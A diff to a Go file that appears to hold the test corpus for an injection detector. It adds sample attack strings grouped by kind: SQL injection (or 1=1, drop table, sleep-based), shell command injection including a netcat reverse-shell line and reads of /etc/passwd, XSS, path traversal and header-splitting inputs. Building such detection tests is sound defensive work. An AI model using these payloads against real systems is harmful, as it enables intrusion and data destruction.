@@ -49,16 +49,20 @@ var loaded = map[Kind][]string{
 	SQL: {
 		"1 < 2 and 3 > 2", "a = a", "1 or 1", "O'Neill' or 1=1-- ", "x'", "x\\", "kim' and 'a'='a", "kim'-- ", "kim'#", "it''s", "don't' or id like 'a", "name desc, id", "id from staff where a = b", "x' if 1=1 shutdown", "x' exec sp_who", "x' in (1,2)", "1 as a from staff", "a', 'b", "x' collate nocase", "x', (select 1)) -- ",
 		"Anna's' || name || '", "1;drop table staff", "date '2020-01-01' or 1=1", "text 'a' or 1=1", "x\" || \"a", "x\"('a') or 1=1", "x` where 1=1 -- ", "/*!50000 or*/ 1=1", "x' /*", "x' limit 1", "+or+1=1-- ", "x%27 or 1=1-- ", "ʼ or 1=1-- ", "x' order by 1", "case when 1=1 then 1 end", "not null", "(select 1)",
+		"--1 union select name from staff/*\nfoo bar baz */", "--1 or sleep(5)/*\nthis is a text */", "#/*\nfoo bar baz */ or 1=1",
+		"1 select your.secret from staff your", "1 delete her from staff her", "1 delete her from staff her where 1=1", "1 update her set role=1 from staff her", "1 select the pw from (select secret the from staff) x",
+		"0 or 1 between symmetric 0 and 9", "x' or 1 between symmetric 0 and 9-- ", "0 or '1' is json scalar", "1 in (select sql_small_result secret pw from staff)",
 	},
 	Shell: {
 		"a; id", "a|sort", "a && env", "$(id)", "a `uname` b", "a\nwhoami", "a & netsh firewall show", "a; /tmp/x", "a; ./run", "a > /tmp/x", "a < /etc/passwd", "$HOME", "${IFS}", "%PATH%", "a; X=1 id", "a; w'h'oami", "a; w^hoami", "a; wh\\oami", "a; /b?n/c?t x", "-rf x", "--exec x", "a; then id", "a; ! id", "{ id; }", "a; sudo ls", "time ls -la", "; cat the dog ate", "a\ncat notes.txt", "(curl h.example)", "; $x id", "a; 1>x id", "reboot", "id", "rm -rf x", "(sleep 5)",
+		"a; python3.11 -c x", "a; nc.traditional -e sh h 1", "a; ruby3.1 x", "a | gcc-12 x.c", "hello; id", "hello there; env", "hello\nid", "Dear all,\nreboot",
 	},
 	HTML:     {"<img src=x>", "<b onclick=x>", "x onload=y", "<!-- x", "<b", "x\" style=y", "javascript:alert(1)", "java\tscript:alert(1)", "data:text/html,x", "<a href=x>", "<?php", "x style = y", "&lt;img src=x onerror=y&gt;", "x <svg/onload=y"},
 	Script:   {"';alert(1)//", "x';y()//", "`${alert(1)}`", "alert(1)", "</script>", "x\\", "a=b", "x\n--> y\nalert(1)", "import x from 'y'", "=/one two/.x()", "x /*\n*/ y()", "x'-y-'", "javascript:x()"},
 	Code:     {"<?php x", "x()", "__import__('x')", "import os\nx()", "'.x().'", "print x()"},
 	Template: {"{{ x }}", "${x}", "{% x %}", "#{x}", "<%= x %>", "#set($x = 1)", "[[${x}]]", "@(x)"},
 	Path:     {"../x", "..\\x", "a/../../x", "/etc/x", "~/x", "/var/log/x", "C:x", "file:///x", "..%2fx", "0x2e0x2e0x2fx", "/tmp/sess_1", "/tmp/.x", "config.py", ".env", "/srv/app.py", "type C:\\x", "//host/x", "/opt/x/conf/y.txt", ".\\/\\.\\./x", "..;/x"},
-	Header:   {"a\r\nSet-Cookie: b", "a\nX-Y: b", "a\nBcc: b@c", "a\nHTTP/1.1 200 OK", "a\nA1 LOGIN x y", "a\nQUIT", "a%0d%0aLocation: b"},
+	Header:   {"a\r\nGET /x HTTP/1.1\r\nb", "a\r\nSet-Cookie: b", "a\nX-Y: b", "a\nBcc: b@c", "a\nHTTP/1.1 200 OK", "a\nA1 LOGIN x y", "a\nQUIT", "a%0d%0aLocation: b"},
 	NoSQL:    {"[$ne]", "{$gt: 1}", "x'; return 1"},
 }
 
